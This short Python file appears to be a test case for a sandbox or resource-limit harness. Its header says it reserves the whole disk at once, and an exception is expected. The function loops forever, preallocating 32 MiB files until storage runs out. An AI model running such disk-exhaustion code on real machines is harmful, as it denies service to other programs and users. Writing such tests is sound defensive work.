"""
title = "Reserves the whole disk at once, which takes the kernel no time, in files that are each small enough"
ends = {callback = "raised"}
"""
import itertools
import os


def descend(function, start):
    for number in itertools.count():
        with open(f"file{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2**25)
